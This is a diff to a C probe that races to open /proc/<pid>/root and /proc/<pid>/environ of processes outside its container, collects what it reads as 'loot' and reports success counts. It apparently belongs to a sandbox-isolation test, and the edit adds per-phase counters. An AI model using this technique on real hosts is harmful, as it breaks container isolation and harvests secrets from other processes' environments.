@@ -53,6 +53,8 @@ struct results {
     long attempts;       // open() calls on /proc/<pid>/{root,environ}
     long denied;         // ... refused with EACCES or EPERM (a live process, closed to us)
     long successes;      // ... that opened, on a process outside our container
+    int phase;           // 0: snapshot agent rounds, 1: status agent rounds, 2: save race
+    long won[3];         // successes per phase
     int rounds[2];       // rounds completed against the snapshot and the status agent
     int round_timeouts;  // rounds in which the sidecar did not come back in time
     int restarts_seen[2];
@@ -176,6 +178,7 @@ static void try_pid(int pid) {
             return;
         }
         R->successes++;
+        R->won[R->phase]++;
         won[n_won++ % 4096] = pid;
         cmdline(pid, line, sizeof line);
         loot("OPENED /proc/%d/root (%s) as uid %d;", pid, line, (int)getuid());
@@ -193,6 +196,7 @@ static void try_pid(int pid) {
         return;
     }
     R->successes++;
+    R->won[R->phase]++;
     if (!already_won(pid)) won[n_won++ % 4096] = pid;
     char buf[2048];
     ssize_t n = read(env, buf, sizeof buf - 1);
@@ -336,6 +340,7 @@ static int race(int rounds) {
             printf("cannot take uid %d: %s\n", STATUS_UID, strerror(errno));
             _exit(1);
         }
+        R->phase = 1;
         kill_rounds("/status-agent run", 1, rounds);
         _exit(0);
     }
@@ -343,12 +348,14 @@ static int race(int rounds) {
     waitpid(child, &status, 0);
     printf("KILL-ROUNDS-DONE\n");
 
+    R->phase = 2;
     save_race();
     printf("SUMMARY {\"attempts\":%ld,\"denied\":%ld,\"successes\":%ld,"
+           "\"successes_by_phase\":{\"snapshot\":%ld,\"status\":%ld,\"save\":%ld},"
            "\"rounds\":{\"snapshot\":%d,\"status\":%d},\"restarts_seen\":{\"snapshot\":%d,"
            "\"status\":%d},\"round_timeouts\":%d,\"save_processes\":%d,\"save_denied\":%ld,"
            "\"loot\":\"%.*s\"}\n",
-           R->attempts, R->denied, R->successes, R->rounds[0], R->rounds[1],
+           R->attempts, R->denied, R->successes, R->won[0], R->won[1], R->won[2], R->rounds[0], R->rounds[1],
            R->restarts_seen[0], R->restarts_seen[1], R->round_timeouts, R->save_processes,
            R->save_denied, (int)R->loot_len, R->loot);
     kill(server, SIGKILL);
